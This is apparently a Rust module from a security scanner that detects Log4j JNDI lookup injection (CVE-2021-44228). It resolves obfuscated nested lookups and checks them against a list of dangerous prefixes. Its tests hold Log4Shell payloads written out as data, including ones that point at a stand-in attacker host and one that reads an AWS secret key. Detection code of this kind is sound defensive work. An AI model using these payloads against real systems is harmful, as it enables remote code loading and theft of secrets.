//! Log4j lookups (CVE-2021-44228 and its follow-ups): `${jndi:ldap://...}` and the nested
//! lookups that spell it without writing it (`${${lower:J}ndi:...}`, `${${::-j}${::-n}di:...}`,
//! `${${env:NaN:-j}ndi...}`), resolved the way Log4j resolves them before looking for a
//! dangerous lookup.

/// Lookup prefixes an attacker uses: JNDI fetches remote code, the others leak secrets into a
/// JNDI address or a log line.
const DANGEROUS: &[&[u8]] = &[
    b"jndi:", b"env:", b"sys:", b"java:", b"ctx:", b"main:", b"bundle:", b"docker:", b"k8s:",
    b"spring:", b"web:", b"log4j:",
];

/// Whether `value` holds a dangerous Log4j lookup, after resolving nested ones.
pub(crate) fn has_lookup(value: &[u8]) -> bool {
    if memchr::memmem::find(value, b"${").is_none() {
        return false;
    }
    let resolved = resolve(value);
    let lower = resolved.to_ascii_lowercase();
    memchr::memmem::find_iter(&lower, b"${").any(|at| {
        let rest: Vec<u8> = lower[at + 2..]
            .iter()
            .copied()
            .filter(|b| !b.is_ascii_whitespace())
            .take(16)
            .collect();
        DANGEROUS.iter().any(|d| rest.starts_with(d))
    })
}

/// Resolves the innermost lookups repeatedly: `${lower:x}`/`${upper:x}` give `x`, a lookup
/// with a default (`${anything:-x}`) gives `x`; a dangerous lookup is kept as written.
fn resolve(value: &[u8]) -> Vec<u8> {
    let mut text = value.to_vec();
    // Each round removes at least one lookup, so this ends; the bound keeps it linear-ish.
    for _ in 0..64 {
        let mut changed = false;
        let mut out = Vec::with_capacity(text.len());
        let mut i = 0;
        while i < text.len() {
            if text[i] == b'$' && text.get(i + 1) == Some(&b'{') {
                // An innermost lookup: no `${` before its `}`.
                if let Some(close) = text[i + 2..].iter().position(|&b| b == b'}') {
                    let inner = &text[i + 2..i + 2 + close];
                    if memchr::memmem::find(inner, b"${").is_none() {
                        if let Some(replacement) = substitute(inner) {
                            out.extend_from_slice(&replacement);
                            i += 2 + close + 1;
                            changed = true;
                            continue;
                        }
                    }
                }
            }
            out.push(text[i]);
            i += 1;
        }
        text = out;
        if !changed {
            break;
        }
    }
    text
}

fn substitute(inner: &[u8]) -> Option<Vec<u8>> {
    let lower = inner.to_ascii_lowercase();
    if let Some(at) = memchr::memmem::find(inner, b":-") {
        return Some(inner[at + 2..].to_vec());
    }
    if let Some(rest) = lower
        .strip_prefix(b"lower:")
        .or_else(|| lower.strip_prefix(b"upper:"))
    {
        return Some(rest.to_vec());
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_and_obfuscated_jndi_lookups_are_found() {
        assert!(has_lookup(b"${jndi:ldap://evil.example/a}"));
        assert!(has_lookup(b"${${lower:J}ndi:${lower:L}dap://x/a}"));
        assert!(has_lookup(b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"));
        assert!(has_lookup(
            b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}"
        ));
        assert!(has_lookup(b"${ jndi:dns://x}"));
        assert!(has_lookup(b"x ${env:AWS_SECRET_ACCESS_KEY} y"));
    }

    #[test]
    fn ordinary_text_with_braces_is_not_a_lookup() {
        assert!(!has_lookup(b"price ${amount} today"));
        assert!(!has_lookup(b"template ${user.name}"));
        assert!(!has_lookup(b"no lookups here"));
    }
}
